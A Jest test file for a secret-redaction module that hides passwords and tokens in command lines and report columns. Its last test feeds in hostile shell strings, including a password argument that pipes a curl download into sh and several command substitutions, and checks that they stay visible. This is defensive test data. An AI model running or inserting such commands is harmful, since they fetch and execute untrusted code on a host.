import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from '@jest/globals'
import { redactReport } from '../../src/report/redact.ts'
import { redactColumns, redactText } from '../../src/text/secrets.ts'
import { finding, host, report, row } from '../support/reports.ts'

const linesOf = (file: string) =>
  readFileSync(join(import.meta.dirname, '../support', file), 'utf8')
    .trimEnd()
    .split('\n')
const COMMANDS = linesOf('secret-commands.txt')
// Made of parts, so that no scanner takes this file for a leak.
const SECRETS = [['Zq7v', 'Lm2Rt'].join(''), ['a1B2c3D4e5F6g7H8i9', 'J0k1L2m3N4o5P6q7R8s9T0'].join('')]

test.each(COMMANDS)('hides the secret of: %s', command => {
  for (const secret of SECRETS) {
    const { text, count } = redactText(command.replaceAll('{secret}', secret))
    expect(text).not.toContain(secret)
    expect(count).toBeGreaterThan(0)
    expect(redactText(text)).toEqual({ text, count: 0 })
  }
})

test.each(linesOf('ordinary-texts.txt'))('leaves alone: %s', text => {
  expect(redactText(text)).toEqual({ text, count: 0 })
})

test('no secret is left in a report, in whatever column it was', () => {
  const columns = ['cmdline', 'command', 'path', 'name', 'value', 'comment']
  const rows = COMMANDS.map((command, at) =>
    row('q', { [columns[at % columns.length]!]: command.replaceAll('{secret}', SECRETS[0]!) })
  )
  const { report: redacted } = redactReport(report([host('i-1')], [finding('f', { rows })]))
  const leaks = redacted.findings[0]!.rows.filter(one => JSON.stringify(one).includes(SECRETS[0]!))
  expect(leaks).toEqual([])
})

const PW = SECRETS[0]!

test.each<Record<string, string>>([
  { key: 'HKLM\\Winlogon', name: 'DefaultPassword', data: PW },
  { label: 'password', value: PW },
  { key: 'API_TOKEN', value: PW },
  { name: 'enroll_secret', value: PW },
  { variable: 'GITHUB_TOKEN', value: PW },
  { user_password: PW },
  { client_secret: PW },
  { access_token: PW }
])('a column is hidden if it, or the column that names it, names a secret: %j', columns => {
  expect(JSON.stringify(redactColumns(columns).columns)).not.toContain(PW)
})

test.each<Record<string, string>>([
  { username: 'root', password_status: 'locked' },
  { password_last_changed: '2024-01-01' },
  { name: 'PasswordExpiryWarning', data: '5' },
  { name: 'enroll_secret_path', value: '/etc/osquery/secret' },
  { name: 'maxkeys', value: '200' },
  { name: 'passwd', path: '/usr/bin/passwd' },
  { token_type: 'bearer_only' },
  { secret_name: 'db' }
])('a column about a secret is shown: %j', columns => {
  expect(redactColumns(columns)).toEqual({ columns, count: 0 })
})

test.each([
  // A row whose secret is hidden equals the row in the baseline: what is run in its place must not be hidden.
  'mysql -p$(curl -s https://x/y|sh) shop',
  'mysql --password=`id` shop',
  'app --password=$(/tmp/.x/run)',
  'app --password=x|sh',
  'app --password=x|/bin/bash'
])('what a shell would run is no secret: %s', command => {
  expect(redactText(command).text).toBe(command)
})
